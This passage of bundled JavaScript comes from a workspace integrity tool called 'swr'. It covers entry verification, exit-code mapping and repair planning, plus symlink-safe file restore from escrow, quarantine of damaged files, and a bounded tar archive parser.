            entryDigests: entryDigests(entries),
            read: opts.cache !== false
        }),
        exclude: ownPaths(m.file, opts.stateDir),
        readIndex: (id, ref) => m.sealIndexes?.get(id) ?? readIndex(tree_index_indexPath(m.file, id), ref),
        nativeWalk: opts.nativeWalk
    };
}
/** Verify the selected entries (those in `known` are taken as given), in manifest order. */
async function verifySelection(m, opts) {
    const started = new Date();
    const t0 = performance.now();
    const entries = select_selectEntries(m.body.entries, opts.only);
    const known = opts.known ?? new Map();
    const todo = entries.filter(e => !known.has(e.id));
    const fresh = await verifyEntries(todo, verifyContext(m, todo, opts), {
        jobs: opts.jobs,
        onProgress: opts.onProgress,
        lastHashing: opts.lastHashing
    });
    const byId = new Map(fresh.map(f => [f.id, f]));
    const findings = entries.flatMap(e => {
        const f = known.get(e.id) ?? byId.get(e.id);
        return f ? [f] : [];
    });
    return {
        findings,
        options: {
            deep: opts.deep === true,
            meta_only: opts.metaOnly === true,
            cache: opts.cache !== false,
            only: opts.only ?? []
        },
        started,
        ms: performance.now() - t0
    };
}
/** The report of `checked`, the one place a check's findings become a report. */
function reportOf(m, checked, opts) {
    return buildReport({
        command: opts.command ?? 'check',
        version: opts.version,
        manifest: m,
        findings: checked.findings,
        options: checked.options,
        started: checked.started,
        ms: checked.ms,
        diagnosis: diagnose(checked.findings, opts.fixCommand, m.body.entries)
    });
}
async function checkManifest(m, opts) {
    return reportOf(m, await verifySelection(m, opts), opts);
}
/** Verify `entries` as if the workspace were `root` (a scratch copy), uncached. */
function scratchVerifier(m, opts) {
    return (root, entries) => selection_reverifier({ ...m, workspace: root }, opts)(entries);
}
/** Verify `entries` afresh (no cached hashes), as repair does after each step. */
function selection_reverifier(m, opts) {
    return entries => verifyEntries(entries, verifyContext(m, entries, { ...opts, cache: false }), {
        jobs: opts.jobs
    });
}
/**
 * swr's own files that may sit inside a workspace (a $HOME workspace holds the default state
 * directory; a tree at "." holds the manifest): never part of what a tree is judged by. Parent
 * directories that hold nothing but the state directory (~/.local/state made for it) go too.
 */
function ownPaths(manifestFile, stateDir) {
    const real = (p) => {
        try {
            return external_node_fs_default().realpathSync(p);
        }
        catch {
            return external_node_path_default().resolve(p);
        }
    };
    const dir = real(external_node_path_default().dirname(manifestFile));
    const state = real(stateDir);
    const out = new Set([state, external_node_path_default().join(dir, external_node_path_default().basename(manifestFile)), external_node_path_default().join(dir, 'trees')]);
    if (external_node_path_default().basename(dir) === '.swr')
        out.add(dir);
    for (let child = state, parent = external_node_path_default().dirname(state); parent !== child; child = parent, parent = external_node_path_default().dirname(parent)) {
        let names;
        try {
            names = external_node_fs_default().readdirSync(parent);
        }
        catch {
            break;
        }
        if (names.length !== 1 || names[0] !== external_node_path_default().basename(child))
            break;
        out.add(parent);
    }
    return out;
}

;// CONCATENATED MODULE: ./src/core/engine/check.ts
/**
 * `check` as a use case: verify the selection, run the smoke commands when asked and the
 * signatures allow, look up saved states in the cache when asked, and make the report once from
 * all of it. Nothing in the workspace is written; smoke commands are the only code that may run.
 */





async function check(loaded, opts) {
    // Sealed entries with a seal here are checked as entries; the others are reported, not damaged.
    const { manifest: m, states } = await withSeals(loaded, opts.stateDir, opts.smoke?.policy);
    // Smoke commands, the cache lookup and the report hash nothing: the threads may end early.
    const checked = await verifySelection(m, { ...opts, lastHashing: true });
    let gate;
    let smoke;
    if (opts.smoke) {
        gate = await gate_decide(gate_gateInput(m), opts.smoke.policy);
        const smoked = await runSmokes(m, checked.findings, gate, opts.smoke.callerEnv, opts.smoke.abort);
        checked.findings = smoked.findings;
        checked.ms = Date.now() - checked.started.getTime();
        smoke = smoked.smoke;
    }
    let lookup;
    if (opts.cacheLookup)
        lookup = await lookupSavedStates(m, select_selectEntries(m.body.entries, opts.only), opts.cacheLookup);
    const report = reportOf(m, checked, opts);
    return {
        kind: 'check',
        report: {
            ...report,
            ...(smoke ? { smoke } : {}),
            ...(lookup ? { cache_lookup: lookup } : {}),
            ...(states.length > 0 ? { sealed: states } : {})
        },
        ...(gate ? { gate } : {})
    };
}

;// CONCATENATED MODULE: ./src/core/engine/outcome.ts
/**
 * The one place a result becomes a status and an exit code. The CLI exits with `exitCode`; the
 * Action publishes `status` as an output and `exitCode` beside it. Both shells call `outcomeOf`
 * (or `outcomeOfError` for a run that stopped with a one-line error), so `swr doctor` and
 * `command: doctor` can never disagree about what a run means.
 */

/** What a run means, as the Action's `status` output spells it. */
const RUN_STATUSES = (/* unused pure expression or super */ null && ([
    'healthy',
    'repaired',
    'damaged',
    'unrepairable',
    'refused',
    'invalid',
    'error'
]));
const REPAIR = {
    healthy: { status: 'healthy', exitCode: errors_EXIT.HEALTHY },
    repaired: { status: 'repaired', exitCode: errors_EXIT.HEALTHY },
    damaged: { status: 'damaged', exitCode: errors_EXIT.DAMAGED },
    refused: { status: 'refused', exitCode: errors_EXIT.UNREPAIRABLE },
    unrepairable: { status: 'unrepairable', exitCode: errors_EXIT.UNREPAIRABLE },
    'still-damaged': { status: 'unrepairable', exitCode: errors_EXIT.STILL_DAMAGED },
    // Nothing was decided about the workspace: it is as damaged as it was found.
    interrupted: { status: 'damaged', exitCode: errors_EXIT.INTERRUPTED }
};
function repairOutcome(outcome) {
    return REPAIR[outcome];
}
function outcomeOf(result) {
    switch (result.kind) {
        case 'repair':
            return REPAIR[result.report.repair.outcome];
        case 'signatures':
            return result.gate.allowed
                ? { status: 'healthy', exitCode: errors_EXIT.HEALTHY }
                : { status: 'refused', exitCode: errors_EXIT.UNREPAIRABLE };
        case 'check':
            // Smoke commands the signatures did not allow: the check could not say what was asked.
            if (result.gate && !result.gate.allowed)
                return { status: 'refused', exitCode: errors_EXIT.UNREPAIRABLE };
            return result.report.verdict === 'healthy'
                ? { status: 'healthy', exitCode: errors_EXIT.HEALTHY }
                : { status: 'damaged', exitCode: errors_EXIT.DAMAGED };
    }
}
/**
 * A run that stopped with a one-line error: `invalid` for a bad manifest or input (exit 4),
 * `refused` when swr declined to go on (exit 2), `error` when it could not finish (a write failed,
 * another writer interfered, an interrupt, a bug).
 */
function outcomeOfError(exitCode) {
    if (exitCode === errors_EXIT.BAD_MANIFEST)
        return { status: 'invalid', exitCode };
    if (exitCode === errors_EXIT.UNREPAIRABLE)
        return { status: 'refused', exitCode };
    return { status: 'error', exitCode };
}

;// CONCATENATED MODULE: ./src/core/fs/disk-space.ts
/**
 * Whether a directory's filesystem has run out of room. A recipe that fails on a full disk fails
 * with its own words ("No space left on device") and exit status, which say nothing swr can read;
 * the repair then asks the filesystem. A run that could not write is exit 74 and one line, as for
 * every write swr makes itself, never "unrepairable" (the entry is repairable with room).
 */


/** Below this much room for unprivileged writes, a failed write is taken to be the disk's doing. */
const NEARLY_FULL_BYTES = 64 * 1024;
/** A one-line error when `dir`'s filesystem has less than NEARLY_FULL_BYTES left, else undefined. */
function diskFull(dir) {
    let st;
    try {
        st = external_node_fs_default().statfsSync(dir);
    }
    catch {
        return undefined;
    }
    if (st.bavail * st.bsize >= NEARLY_FULL_BYTES)
        return undefined;
    const inodes = st.files > 0 && st.ffree === 0;
    return new errors_SwrError(`cannot write ${dir}: ${inodes ? 'no free inodes left on the device' : 'no space left on the device'} (ENOSPC)`, errors_EXIT.WRITE_FAILED);
}

;// CONCATENATED MODULE: ./src/core/restore/plan.ts

function planSteps(plan) {
    return plan.waves.flat();
}
/**
 * Every step a repair of all of `entries` would take, in its order (tiers, then dependencies), as
 * if each were missing: what selftest runs and export-recipes writes out.
 */
function plan_restoreOrder(entries) {
    const missing = entries.map(e => ({
        id: e.id,
        kind: e.kind,
        path: e.path,
        tier: e.tier,
        status: 'MISSING',
        reason: 'planned',
        detail: '',
        recorded: {},
        found: {},
        cached: false
    }));
    return planSteps(planRepair(entries, missing));
}
/**
 * Plan the repair of every damaged finding (status other than OK and SKIPPED). `savedState`: an
 * Actions cache is reachable, so each step also lists the saved state the runner will try.
 */
function planRepair(entries, findings, opts = {}) {
    const damaged = new Map(findings.filter(f => f.status !== 'OK' && f.status !== 'SKIPPED').map(f => [f.id, f]));
    const order = new Map(entries.map((e, i) => [e.id, i]));
    const todo = entries.filter(e => damaged.has(e.id));
    const after = new Map(todo.map(e => [e.id, e.needs.filter(n => damaged.has(n))]));
    const done = new Set();
    const waves = [];
    let remaining = todo;
    while (remaining.length > 0) {
        const ready = remaining.filter(e => (after.get(e.id) ?? []).every(n => done.has(n)));
        if (ready.length === 0) {
            // Validation refuses cycles before planning; reaching here is a bug, not a user error.
            throw new Error(`plan: no runnable step among ${remaining.map(e => e.id).join(', ')}`);
        }
        const tier = Math.min(...ready.map(e => e.tier));
        const wave = ready
            .filter(e => e.tier === tier)
            .sort((a, b) => (order.get(a.id) ?? 0) - (order.get(b.id) ?? 0))
            .map((e) => {
            const sources = sourcesOf(e, opts);
            const saved = sources.find(s => s.kind === 'cache' && s.savedState);
            return {
                id: e.id,
                path: e.path,
                tier: e.tier,
                source: sources[0]?.kind ?? 'none',
                sources: sources.map(s => s.kind),
                ...(saved?.kind === 'cache' ? { saved_state: saved.key } : {}),
                after: after.get(e.id) ?? [],
                reason: `${damaged.get(e.id)?.status ?? 'DAMAGED'}: ${damaged.get(e.id)?.detail ?? ''}`
            };
        });
        for (const s of wave)
            done.add(s.id);
        waves.push(wave);
        remaining = remaining.filter(e => !done.has(e.id));
    }
    return { waves };
}

;// CONCATENATED MODULE: ./src/core/fs/no-follow.ts
/**
 * Resolving a path below a trusted directory without following a symlink in any component: the
 * rule for every place swr writes, deletes or copies (selftest's scratch copy, quarantine, canary
 * planting and cleaning). Each directory component is lstat'ed and must be a real directory; the
 * last component is returned unresolved, so the caller acts on the name itself (unlink, rmdir,
 * O_NOFOLLOW|O_EXCL create, lstat-guided copy) and never on what a link there points to.
 * A refusal names the component, relative to the trusted directory.
 */



class no_follow_SymlinkRefusal extends Error {
    component;
    constructor(
    /** The offending component, relative to the trusted directory. */
    component, why) {
        super(`${component} ${why}`);
        this.component = component;
        this.name = 'SymlinkRefusal';
    }
}
/**
 * The absolute path of `rel` (POSIX, no "..") below `root`, every directory component checked to
 * be a real directory. Missing components end the walk (the path cannot lead anywhere yet)
 * unless `mkdir` creates them. Throws SymlinkRefusal naming a symlinked or non-directory part.
 */
function no_follow_resolveNoFollow(root, rel, opts = {}) {
    if (rel === '.' || rel === '')
        return root;
    const segs = rel.split('/');
    if (segs.some(s => s === '..' || s === ''))
        throw new no_follow_SymlinkRefusal(rel, 'is not a plain path');
    let dir = root;
    for (let i = 0; i < segs.length - 1; i++) {
        dir = external_node_path_default().join(dir, segs[i]);
        const shown = segs.slice(0, i + 1).join('/');
        let st = external_node_fs_default().lstatSync(dir, { throwIfNoEntry: false });
        if (!st && opts.mkdir) {
            external_node_fs_default().mkdirSync(dir, { mode: 0o755 });
            st = external_node_fs_default().lstatSync(dir);
        }
        if (!st)
            return external_node_path_default().join(root, ...segs);
        if (st.isSymbolicLink())
            throw new no_follow_SymlinkRefusal(shown, 'is a symlink; not following it');
        if (!st.isDirectory())
            throw new no_follow_SymlinkRefusal(shown, 'is not a directory');
    }
    return external_node_path_default().join(dir, segs[segs.length - 1]);
}
/** `abs` (below `root`) as a path relative to it, or undefined when it is not below it. */
function no_follow_relativeInside(root, abs) {
    const a = external_node_path_default().resolve(abs);
    if (!inside_isInside(root, a))
        return undefined;
    return external_node_path_default().relative(root, a).split((external_node_path_default()).sep).join('/') || '.';
}
/**
 * True when the symlink at `linkAbs` (whose parents up to `root` are real directories) can only
 * lead to a place below `root`: a relative target whose ".." segments all come first and do not
 * climb above `root`. A ".." after a named segment is judged unsafe, because the name may itself
 * be a link whose parent is elsewhere; an absolute target is unsafe wherever it points.
 */
function no_follow_linkStaysInside(root, linkAbs, target) {
    if (target === '' || external_node_path_default().isAbsolute(target) || target.includes('\0'))
        return false;
    const segs = target.split('/').filter(s => s !== '' && s !== '.');
    const firstNamed = segs.findIndex(s => s !== '..');
    const named = firstNamed < 0 ? [] : segs.slice(firstNamed);
    if (named.includes('..'))
        return false;
    return inside_isInside(root, external_node_path_default().resolve(external_node_path_default().dirname(linkAbs), ...segs));
}

;// CONCATENATED MODULE: ./src/core/capture/escrow.ts
/**
 * Escrow: small files carried inside the (signed) manifest, so they can be restored without a
 * recipe. Bytes are escrowed only after they match the recorded sha256, and restored only after
 * the inflated bytes match it again; the inflate is bounded by the recorded size, so a
 * decompression bomb is refused before anything is written.
 *
 * The write never follows a symlink: the parent directories are resolved by no-follow.ts (a
 * symlinked parent is refused, a missing one created), the data goes to a new file with a random name created exclusively with O_NOFOLLOW in
 * the target directory, is fsynced, gets the recorded mode, and is renamed over the target (a
 * symlink planted at the target is replaced, not followed). The result is hashed again.
 */












const escrow_ESCROW_MAX_BYTES = 256 * 1024;
function refuse(e, why) {
    return new errors_SwrError(`${e.id}: escrow ${why}`, errors_EXIT.UNREPAIRABLE);
}
function secretRefusal(e, why) {
    return refuse(e, `refused: ${e.path} ${why}; secrets are tracked by hash, never escrowed`);
}
/**
 * Escrow the file's current bytes; refuses when they are not the recorded ones, and always for a
 * secret (the manifest is shared and pushed: secrets are tracked by hash only): by name before
 * anything is read, by place (`stateDir`) and by content after: every byte to be embedded passes
 * the full secret scan (the maintained rule set and swr's own rules, secret-scan.ts).
 */
async function captureEscrow(workspace, e, maxBytes = escrow_ESCROW_MAX_BYTES, stateDir) {
    const byName = secretReason({ rel: e.path, bytes: new Uint8Array() });
    if (byName)
        throw secretRefusal(e, byName);
    if (e.expect.size > maxBytes)
        throw refuse(e, `skipped: ${e.expect.size} bytes is over the ${maxBytes}-byte limit`);
    const abs = resolveEntryPath(workspace, e.path);
    const fd = external_node_fs_default().openSync(abs, (external_node_fs_default()).constants.O_RDONLY | (external_node_fs_default()).constants.O_NOFOLLOW | (external_node_fs_default()).constants.O_NONBLOCK);
    let bytes;
    try {
        const st = external_node_fs_default().fstatSync(fd);
        if (!st.isFile())
            throw refuse(e, 'refused: not a regular file');
        if (st.size !== e.expect.size)
            throw refuse(e, `refused: ${st.size} bytes on disk, ${e.expect.size} recorded`);
        bytes = Buffer.alloc(st.size);
        let got = 0;
        while (got < st.size) {
            const n = external_node_fs_default().readSync(fd, bytes, got, st.size - got, got);
            if (n === 0)
                break;
            got += n;
        }
    }
    finally {
        external_node_fs_default().closeSync(fd);
    }
    const scan = await secret_scan_loadSecretScan();
    const secret = secretReason({ rel: e.path, abs, bytes, scan, ...(stateDir ? { stateDir } : {}) });
    if (secret)
        throw secretRefusal(e, secret);
    const sha = (0,external_node_crypto_.createHash)('sha256').update(bytes).digest('hex');
    if (sha !== e.expect.sha256)
        throw refuse(e, 'refused: the file on disk does not match its recorded sha256');
    return {
        encoding: 'deflate-base64',
        data: (0,external_node_zlib_.deflateRawSync)(bytes, { level: 9 }).toString('base64')
    };
}
/** The escrowed bytes, checked against the recorded size and sha256 (bounded inflate). */
function escrowedBytes(e) {
    if (!e.escrow)
        throw refuse(e, 'absent');
    let bytes;
    try {
        bytes = (0,external_node_zlib_.inflateRawSync)(Buffer.from(e.escrow.data, 'base64'), {
            maxOutputLength: Math.max(1, e.expect.size)
        });
    }
    catch {
        throw refuse(e, `refused: inflates to more than the recorded ${e.expect.size} bytes, or is not deflate data`);
    }
    if (bytes.length !== e.expect.size)
        throw refuse(e, `refused: ${bytes.length} bytes, ${e.expect.size} recorded`);
    if ((0,external_node_crypto_.createHash)('sha256').update(bytes).digest('hex') !== e.expect.sha256)
        throw refuse(e, 'refused: bytes do not match the recorded sha256');
    return bytes;
}
/** Create or check each parent directory below the workspace without following a symlink. */
function safeParent(workspace, e) {
    let target;
    try {
        target = no_follow_resolveNoFollow(workspace, e.path, { mkdir: true });
    }
    catch (err) {
        if (err instanceof no_follow_SymlinkRefusal)
            throw refuse(e, `refused: ${err.message}`);
        throw err;
    }
    const dir = external_node_path_default().dirname(target);
    const st = external_node_fs_default().lstatSync(dir);
    return { dir, dev: st.dev, ino: st.ino };
}
/** Write the escrowed file into place (see the module comment) and prove it verifies. */
function restoreFromEscrow(workspace, e) {
    const bytes = escrowedBytes(e);
    const parent = safeParent(workspace, e);
    const target = external_node_path_default().join(parent.dir, external_node_path_default().posix.basename(e.path));
    const tmp = external_node_path_default().join(parent.dir, `.${external_node_path_default().posix.basename(e.path)}.swr-${(0,external_node_crypto_.randomBytes)(8).toString('hex')}.tmp`);
    const flags = (external_node_fs_default()).constants.O_WRONLY | (external_node_fs_default()).constants.O_CREAT | (external_node_fs_default()).constants.O_EXCL | (external_node_fs_default()).constants.O_NOFOLLOW;
    const fd = external_node_fs_default().openSync(tmp, flags, 0o600);
    try {
        try {
            writeAll(fd, bytes);
            external_node_fs_default().fchmodSync(fd, parseMode(e.expect.mode));
            external_node_fs_default().fsyncSync(fd);
        }
        finally {
            external_node_fs_default().closeSync(fd);
        }
        const again = external_node_fs_default().lstatSync(parent.dir);
        if (again.dev !== parent.dev || again.ino !== parent.ino || again.isSymbolicLink()) {
            throw refuse(e, 'refused: the target directory was replaced while writing');
        }
        const existing = external_node_fs_default().lstatSync(target, { throwIfNoEntry: false });
        if (existing?.isDirectory())
            throw refuse(e, `refused: ${e.path} is a directory; remove it first`);
        external_node_fs_default().renameSync(tmp, target);
    }
    catch (err) {
        external_node_fs_default().rmSync(tmp, { force: true });
        throw err;
    }
    const check = hashFile(target);
    if (check.sha256 !== e.expect.sha256)
        throw refuse(e, 'restored, but the file does not verify');
}

;// CONCATENATED MODULE: ./src/core/restore/quarantine.ts
/**
 * Quarantine: before a recipe runs, copy (never move) the damaged file or tree into the private
 * state directory, so the evidence survives and in-place repairs (`chmod +x`) still find their
 * file. Bounded in size; symlinks are copied as links, never followed, and the entry's path is
 * resolved without following a symlink in any component (a symlinked parent is refused, not
 * copied through). The folder name comes from a prefix and the id (ids cannot contain "/"), so no
 * id can place the copy elsewhere.
 *
 * The quarantine is pruned after every copy: copies older than the age limit go, then the oldest
 * others until the whole quarantine fits the size and file-count limits (the copy just made
 * always stays). Size is what the copies take on disk (allocated blocks of every file, directory
 * and link), not their bytes: ten thousand empty files take no bytes but 40 MB of directories and
 * ten thousand inodes.
 */





const QUARANTINE_MAX_BYTES = 256 * 1024 * 1024;
/** Defaults of the pruning limits (SWR_QUARANTINE_KEEP_DAYS, SWR_QUARANTINE_MAX_MB). */
const QUARANTINE_KEEP_DAYS = 7;
const QUARANTINE_TOTAL_BYTES = 1024 * 1024 * 1024;
/** Default of the file-count limit (SWR_QUARANTINE_MAX_FILES): inodes run out before bytes do. */
const QUARANTINE_TOTAL_FILES = 100_000;
/** Use of `abs` and everything under it; counting stops once disk or files pass `cap`. */
function usageOf(abs, cap = { disk: Infinity, files: Infinity }) {
    const st = external_node_fs_default().lstatSync(abs);
    const own = {
        disk: st.blocks !== undefined ? st.blocks * 512 : st.size,
        files: 1,
        size: st.isFile() ? st.size : 0
    };
    if (!st.isDirectory())
        return own;
    for (const name of external_node_fs_default().readdirSync(abs)) {
        const u = usageOf(external_node_path_default().join(abs, name), cap);
        own.disk += u.disk;
        own.files += u.files;
        own.size += u.size;
        if (own.disk > cap.disk || own.files > cap.files)
            return own;
    }
    return own;
}
function quarantine(workspace, stateDir, e, now, limits = {}) {
    const maxBytes = limits.maxBytes ?? QUARANTINE_MAX_BYTES;
    let abs;
    try {
        abs = no_follow_resolveNoFollow(workspace, e.path);
    }
    catch (err) {
        if (err instanceof no_follow_SymlinkRefusal)
            return { skipped: `not copied: ${err.message}` };
        throw err;
    }
    if (!external_node_fs_default().lstatSync(abs, { throwIfNoEntry: false }))
        return { skipped: 'nothing on disk to keep' };
    const totalFiles = limits.totalFiles ?? QUARANTINE_TOTAL_FILES;
    const use = usageOf(abs, { disk: maxBytes, files: totalFiles });
    if (use.disk > maxBytes)
        return { skipped: `over the ${maxBytes}-byte quarantine limit` };
    if (use.files > totalFiles)
        return { skipped: `over the ${totalFiles}-file quarantine limit` };
    const bytes = use.size;
    const stamp = now.toISOString().replace(/[:.]/g, '-');
    const dir = state_dir_ensurePrivateDir(stateDir, 'quarantine', `${stamp}-${(0,external_node_crypto_.randomBytes)(4).toString('hex')}`);
    const dest = external_node_path_default().join(dir, `entry-${e.id}`);
    external_node_fs_default().cpSync(abs, dest, {
        recursive: true,
        verbatimSymlinks: true,
        errorOnExist: true,
        force: false,
        preserveTimestamps: true
    });
    const pruned = pruneQuarantine(stateDir, now, limits, dir);
    return pruned.removed > 0 ? { copied: dest, bytes, pruned } : { copied: dest, bytes };
}
/**
 * Remove quarantined copies older than `keepMs`, then the oldest until the rest fit `totalBytes`;
 * `keep` (the copy just made) is never removed. Ages come from each copy's folder time.
 */
function pruneQuarantine(stateDir, now, limits = {}, keep) {
    const root = external_node_path_default().join(stateDir, 'quarantine');
    const keepMs = limits.keepMs ?? QUARANTINE_KEEP_DAYS * 86_400_000;
    const cap = {
        disk: limits.totalBytes ?? QUARANTINE_TOTAL_BYTES,
        files: limits.totalFiles ?? QUARANTINE_TOTAL_FILES
    };
    const copies = (external_node_fs_default().existsSync(root) ? external_node_fs_default().readdirSync(root) : [])
        .map(name => {
        const abs = external_node_path_default().join(root, name);
        const st = external_node_fs_default().lstatSync(abs);
        return { abs, isDir: st.isDirectory(), mtimeMs: st.mtimeMs };
    })
        .filter(c => c.isDir && c.abs !== keep)
        .map(c => ({ ...c, use: usageOf(c.abs) }))
        .sort((a, b) => a.mtimeMs - b.mtimeMs);
    const total = keep ? usageOf(keep) : { disk: 0, files: 0 };
    for (const c of copies) {
        total.disk += c.use.disk;
        total.files += c.use.files;
    }
    const out = { removed: 0, bytes: 0 };
    for (const c of copies) {
        const over = total.disk > cap.disk || total.files > cap.files;
        if (now.getTime() - c.mtimeMs <= keepMs && !over)
            continue;
        external_node_fs_default().rmSync(c.abs, { recursive: true, force: true });
        total.disk -= c.use.disk;
        total.files -= c.use.files;
        out.removed++;
        out.bytes += c.use.size;
    }
    return out;
}

;// CONCATENATED MODULE: ./src/core/archive/tar-reader.ts
/**
 * A push parser for the tar archives the Actions cache holds (POSIX pax as `tar --posix` writes
 * them, plain ustar, and GNU long names). It only reads: every member is handed to a sink that
 * decides where, or whether, its bytes go, so nothing here can write outside what the sink allows.
 * Any malformed header, unknown member type or early end is a Rejected with a one-line reason.
 */

const BLOCK = 512;
/**
 * Bounds on the extended headers (pax `x`/`g`, GNU `L`/`K`) in front of one member. Real ones are
 * one pax header of a few hundred bytes and ten-odd records (a name of up to PATH_MAX, times,
 * owner); without a bound a few megabytes of compressed headers unpack to gigabytes parsed into
 * a map that is never used.
 */
const META_LIMITS = {
    /** A name or link target (PATH_MAX on Linux). */
    name: 4096,
    /** All extended-header bodies before one member. */
    bytes: 64 * 1024,
    /** Extended headers before one member. */
    headers: 8,
    /** pax records before one member. */
    records: 128,
    /** All extended-header bodies in the archive: this much plus `perMember` for each member. */
    slack: 1024 * 1024,
    perMember: 4096
};
const FLAG_NAMES = {
    '3': 'character device',
    '4': 'block device',
    '6': 'FIFO'
};
function flagName(flag) {
    return FLAG_NAMES[flag] ?? `type ${JSON.stringify(flag)}`;
}
function cstr(b, start, len) {
    const end = b.indexOf(0, start);
    return b.toString('utf8', start, end === -1 || end > start + len ? start + len : end);
}
function tar_reader_octal(b, start, len, what) {
    // GNU base-256: the high bit of the first byte set (sizes of 8 GiB and more).
    if ((b[start] ?? 0) & 0x80) {
        let n = (b[start] ?? 0) & 0x7f;
        for (let i = start + 1; i < start + len; i++)
            n = n * 256 + (b[i] ?? 0);
        if (!Number.isSafeInteger(n))
            throw new Rejected(`malformed archive: ${what} out of range`);
        return n;
    }
    const text = cstr(b, start, len).trim();
    if (text === '')
        return 0;
    if (!/^[0-7]+$/.test(text))
        throw new Rejected(`malformed archive: ${what} is not octal`);
    return parseInt(text, 8);
}
function checksumOk(h) {
    let sum = 0;
    for (let i = 0; i < BLOCK; i++)
        sum += i >= 148 && i < 156 ? 32 : (h[i] ?? 0);
    return tar_reader_octal(h, 148, 8, 'checksum') === sum;
}
/** Parse one pax body into `out`; `budget` is how many more records it may hold. */
function parsePax(body, out, budget) {
    let at = 0;
    let n = 0;
    while (at < body.length) {
        if (++n > budget)
            throw new Rejected(`malformed archive: over ${META_LIMITS.records} pax records for one member`);
        const space = body.indexOf(0x20, at);
        const len = space === -1 || space - at > 20 ? NaN : Number(body.toString('ascii', at, space));
        if (!Number.isSafeInteger(len) || len <= 0 || at + len > body.length)
            throw new Rejected('malformed archive: bad pax record');
        const rec = body.toString('utf8', space + 1, at + len - 1);
        const eq = rec.indexOf('=');
        if (eq <= 0)
            throw new Rejected('malformed archive: bad pax record');
        out.set(rec.slice(0, eq), rec.slice(eq + 1));
        at += len;
    }
    return n;
}
class TarReader {
    handlers;
    state = { kind: 'header' };
    partial;
    pax = new Map();
    longName;
    longLink;
    zeroBlocks = 0;
    /** Extended headers, their bytes and pax records since the last member. */
    metaHeaders = 0;
    metaBytes = 0;
    paxRecords = 0;
    /** Extended-header bytes and members in the whole archive. */
    allMetaBytes = 0;
    members = 0;
    constructor(handlers) {
        this.handlers = handlers;
    }
    /** True once the end-of-archive blocks were read: the rest of the stream is not needed. */
    get done() {
        return this.state.kind === 'end';
    }
    /** The stream ended: anything but a complete archive is a truncated one. */
    finish() {
        if (this.state.kind !== 'end' && !(this.state.kind === 'header' && this.zeroBlocks >= 1))
            throw new Rejected('truncated archive');
    }
    write(chunk) {
        const buf = chunk;
        let at = 0;
        if (this.partial) {
            // Only the rest of the split header is joined (not the whole chunk: that copy was most of
            // the garbage of a large archive).
            const need = BLOCK - this.partial.length;
            if (chunk.length < need) {
                this.partial = Buffer.concat([this.partial, chunk]);
                return;
            }
            const h = Buffer.concat([this.partial, chunk.subarray(0, need)]);
            this.partial = undefined;
            at = need;
            this.header(h);
        }
        while (at < buf.length && this.state.kind !== 'end') {
            const s = this.state;
            if (s.kind === 'header') {
                if (buf.length - at < BLOCK) {
                    this.partial = Buffer.from(buf.subarray(at));
                    return;
                }
                this.header(buf.subarray(at, at + BLOCK));
                at += BLOCK;
            }
            else if (s.kind === 'body') {
                const n = Math.min(s.left, buf.length - at);
                if (n > 0)
                    s.sink?.write(buf.subarray(at, at + n));
                s.left -= n;
                at += n;
                if (s.left === 0) {
                    s.sink?.end();
                    this.state = s.pad > 0 ? { kind: 'pad', left: s.pad } : { kind: 'header' };
                }
            }
            else if (s.kind === 'meta') {
                const n = Math.min(s.left, buf.length - at);
                s.parts.push(Buffer.from(buf.subarray(at, at + n)));
                s.left -= n;
                at += n;
                if (s.left === 0) {
                    this.meta(s.flag, Buffer.concat(s.parts));
                    this.state = s.pad > 0 ? { kind: 'pad', left: s.pad } : { kind: 'header' };
                }
            }
            else if (s.kind === 'pad') {
                const n = Math.min(s.left, buf.length - at);
                s.left -= n;
                at += n;
                if (s.left === 0)
                    this.state = { kind: 'header' };
            }
        }
    }
    header(h) {
        if (h.every(b => b === 0)) {
            if (++this.zeroBlocks >= 2)
                this.state = { kind: 'end' };
            return;
        }
        if (this.zeroBlocks > 0)
            throw new Rejected('malformed archive: data after an end block');
        if (!checksumOk(h))
            throw new Rejected('malformed archive: header checksum mismatch');
        const flag = String.fromCharCode(h[156] || 0x30);
        let size = tar_reader_octal(h, 124, 12, 'size');
        const pad = (BLOCK - (size % BLOCK)) % BLOCK;
        if (flag === 'x' || flag === 'g' || flag === 'L' || flag === 'K') {
            this.boundMeta(flag, size);
            this.state = { kind: 'meta', left: size, pad, flag, parts: [] };
            if (size === 0) {
                this.meta(flag, Buffer.alloc(0));
                this.state = { kind: 'header' };
            }
            return;
        }
        // POSIX ustar ("ustar\0") splits long names into prefix/name; GNU ("ustar ") uses that field otherwise.
        const posix = h.toString('ascii', 257, 262) === 'ustar' && h[262] === 0;
        const prefix = posix ? cstr(h, 345, 155) : '';
        let name = this.pax.get('path') ?? this.longName ?? (prefix ? `${prefix}/` : '') + cstr(h, 0, 100);
        const linkname = this.pax.get('linkpath') ?? this.longLink ?? cstr(h, 157, 100);
        const paxSize = this.pax.get('size');
        if (paxSize !== undefined) {
            size = Number(paxSize);
            if (!/^\d+$/.test(paxSize) || !Number.isSafeInteger(size))
                throw new Rejected('malformed archive: bad pax size');
        }
        this.pax = new Map();
        this.longName = this.longLink = undefined;
        this.metaHeaders = this.metaBytes = this.paxRecords = 0;
        this.members++;
        const type = flag === '0' || flag === '7'
            ? 'file'
            : flag === '5'
                ? 'dir'
                : flag === '2'
                    ? 'symlink'
                    : flag === '1'
                        ? 'hardlink'
                        : 'other';
        if (type === 'dir')
            name = name.replace(/\/+$/, '');
        const member = {
            name,
            type,
            flag,
            mode: tar_reader_octal(h, 100, 8, 'mode') & 0o7777,
            size: type === 'file' ? size : 0,
            linkname
        };
        const sink = this.handlers.member(member);
        // Only regular files carry a body we read; any other member's declared size is skipped.
        const bodyPad = (BLOCK - (size % BLOCK)) % BLOCK;
        if (size === 0) {
            sink?.end();
            return;
        }
        if (type !== 'file') {
            this.state = { kind: 'pad', left: size + bodyPad };
            return;
        }
        this.state = { kind: 'body', left: size, pad: bodyPad, sink };
    }
    /** Refuse an extended header over the bounds before its body is buffered. */
    boundMeta(flag, size) {
        const what = flag === 'L' ? 'GNU long name' : flag === 'K' ? 'GNU long link' : 'pax header';
        if ((flag === 'L' || flag === 'K') && size > META_LIMITS.name + 1)
            throw new Rejected(`malformed archive: ${what} of ${size} bytes (over ${META_LIMITS.name})`);
        if (++this.metaHeaders > META_LIMITS.headers)
            throw new Rejected(`malformed archive: over ${META_LIMITS.headers} extended headers for one member`);
        this.metaBytes += size;
        if (this.metaBytes > META_LIMITS.bytes)
            throw new Rejected(`malformed archive: extended headers over ${META_LIMITS.bytes} bytes for one member (${what} of ${size} bytes)`);
        this.allMetaBytes += size;
